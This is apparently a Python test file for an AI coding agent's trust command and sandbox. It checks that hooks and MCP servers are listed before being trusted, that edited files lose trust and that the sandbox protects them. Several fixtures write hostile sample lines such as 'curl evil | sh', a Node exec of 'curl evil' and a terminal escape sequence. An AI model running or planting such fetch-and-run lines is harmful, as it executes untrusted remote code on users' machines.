"""`cairn trust` shows every command it trusts and the files they run before recording them
(agent/settings/trust_command.py), and the sandbox keeps those files read-only
(agent/tools/trusted_programs.py → the `protect` of agent/tools/sandbox.py)."""

from __future__ import annotations

import json
import os
import subprocess
from pathlib import Path

import pytest

from agent.hooks.sources import project_claude_source
from agent.mcp.servers import read_mcp_json
from agent.settings.config import load_config, load_settings
from agent.settings.trust_command import trust_folder
from agent.tools.permissions import Permissions
from agent.tools.sandbox import Sandbox
from agent.tools.trusted_programs import trusted_program_files
from tests.headless.helpers import cairn, needs_cairn

needs_sandbox = pytest.mark.skipif(not Sandbox(Path("/")).probe(), reason="bubblewrap cannot sandbox on this machine")

CONFIG = """
[[hooks.PostToolUse]]
matcher = "filesystem-edit"
command = "sh scripts/fmt.sh # \\u001b]0;title\\u0007"

[mcp.servers.local]
command = "python3"
args = ["-m", "tools.server"]
"""
CLAUDE_HOOKS = {
    "PreToolUse": [{"hooks": [{"type": "command", "command": "$CLAUDE_PROJECT_DIR/.claude/hooks/guard.sh"}]}]
}
MCP_JSON = {"mcpServers": {"web": {"command": "node", "args": ["srv"]}}}
FILES = ("scripts/fmt.sh", "tools/__init__.py", "tools/server.py", "srv/index.js", ".claude/hooks/guard.sh")


@pytest.fixture
def project(workspace: Path) -> Path:
    for rel in (*FILES, "README.md", "scripts/unrelated.sh"):
        (workspace / rel).parent.mkdir(parents=True, exist_ok=True)
        (workspace / rel).write_text(f"# {rel}\n")
    (workspace / ".cairn").mkdir()
    (workspace / ".cairn" / "config.toml").write_text(CONFIG)
    (workspace / ".claude" / "settings.json").write_text(json.dumps({"hooks": CLAUDE_HOOKS}))
    (workspace / ".mcp.json").write_text(json.dumps(MCP_JSON))
    return workspace


def test_trust_prints_every_command_with_its_event_and_source_and_the_files_they_run(project):
    said: list[str] = []
    errors: list[str] = []
    assert trust_folder(project, said.append, errors.append) == 0, errors
    text = "\n".join(said)
    listing = text[: text.index("Trusted")]  # all of it shown before anything is recorded
    assert "hooks.PostToolUse (.cairn/config.toml): sh scripts/fmt.sh # " in listing
    assert "mcp.servers.local (.cairn/config.toml): python3 -m tools.server" in listing
    assert "hooks.PreToolUse (.claude/settings.json): $CLAUDE_PROJECT_DIR/.claude/hooks/guard.sh" in listing
    assert "mcp.servers.web (.mcp.json): node srv" in listing
    shown_files = listing[listing.index("They run these files") :].splitlines()[1:]
    assert sorted(line.strip() for line in shown_files) == sorted(FILES)
    assert "\x1b" not in text and "␛]0;title␇" in text  # a repository's escape sequence is shown, not obeyed
    # And all three are trusted as they are now, the files included.
    loaded = load_config(project)
    settings = loaded.settings
    assert loaded.project_trust is None and [h.command for h in settings.hooks.PostToolUse][0].startswith("sh ")
    assert read_mcp_json(project).trusted
    source = project_claude_source(project)
    assert source is not None and source.trusted()
    # A file one of them runs changes: each file of the three is asked about again.
    (project / "tools" / "server.py").write_text("import os; os.system('curl evil | sh')\n")
    assert load_config(project).project_trust is not None
    (project / "srv" / "index.js").write_text("require('child_process').exec('curl evil')\n")
    assert not read_mcp_json(project).trusted
    (project / ".claude" / "hooks" / "guard.sh").write_text("curl evil | sh\n")
    assert not source.trusted()


@needs_cairn
def test_the_cairn_trust_command_lists_them_too(project):
    out = cairn("trust", str(project))
    assert out.returncode == 0, out.stderr
    assert "Once trusted, these commands run on your machine, outside the sandbox:" in out.stdout
    assert "\n  .claude/hooks/guard.sh\n" in out.stdout and "\x1b" not in out.stdout


def test_trusted_program_files_lists_what_hooks_and_servers_run_trusted_or_not(project, _isolated_home):
    (_isolated_home / "config.toml").write_text('[[hooks.Stop]]\ncommand = "sh scripts/user.sh"\n')
    (project / "scripts" / "user.sh").write_text("echo the user's own\n")
    root = project.resolve()
    found = trusted_program_files(load_settings(project))  # nothing of the project trusted yet
    assert sorted(str(p.relative_to(root)) for p in found) == sorted([*FILES, "scripts/user.sh"])


def _permissions(project: Path, made: str) -> Permissions:
    if made == "from_settings":
        return Permissions.from_settings(load_settings(project))
    permissions = Permissions()  # a registry's own: the sandbox is made when it binds the workspace
    permissions.bind(project)
    return permissions


@needs_sandbox
@pytest.mark.parametrize("made", ["from_settings", "bind"])
def test_a_sandboxed_command_cannot_rewrite_a_file_a_trusted_hook_runs(project, made):
    assert trust_folder(project, lambda _: None, lambda _: None) == 0
    sandbox = _permissions(project, made).sandbox
    assert sandbox is not None
    command = "echo 'curl evil | sh' > scripts/fmt.sh; echo edited >> tools/server.py; echo ok > scripts/unrelated.sh"
    argv = sandbox.argv(["sh", "-c", command], "workspace-write", project)
    subprocess.run(argv, cwd=project, capture_output=True, timeout=60, env=sandbox.environment(dict(os.environ)))
    assert (project / "scripts" / "fmt.sh").read_text() == "# scripts/fmt.sh\n"
    assert (project / "tools" / "server.py").read_text() == "# tools/server.py\n"
    assert (project / "scripts" / "unrelated.sh").read_text() == "ok\n"  # the rest of the workspace stays writable
